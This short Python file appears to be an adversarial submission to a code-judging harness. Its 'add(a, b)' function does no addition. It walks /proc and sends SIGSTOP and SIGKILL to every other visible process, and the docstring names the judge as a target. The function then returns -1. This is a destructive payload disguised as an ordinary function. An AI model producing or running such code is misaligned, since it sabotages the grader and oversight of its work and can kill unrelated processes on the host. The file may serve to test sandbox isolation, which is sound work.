"""Signal every process it can see (kill -1, and each pid with every signal), including the judge."""
import os
import signal


def add(a, b):
    me = os.getpid()
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == me:
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    return -1


if __name__ == "__main__":
    add(0, 0)
